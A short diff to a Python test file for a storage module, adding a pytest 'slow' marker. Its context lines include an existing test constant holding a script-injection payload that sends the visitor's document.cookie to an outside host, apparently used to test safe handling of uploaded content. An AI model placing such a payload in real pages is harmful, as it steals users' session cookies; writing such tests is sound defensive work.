@@ -16,6 +16,8 @@ from storage.objects import Objects
 from storage.public_files import public_labels
 from storage.settings import Settings
 
+pytestmark = pytest.mark.slow
+
 SCRIPT = b"<script>top.location = 'https://example.net/' + document.cookie</script>"
 DATA = bytes(range(256)) * 40
 
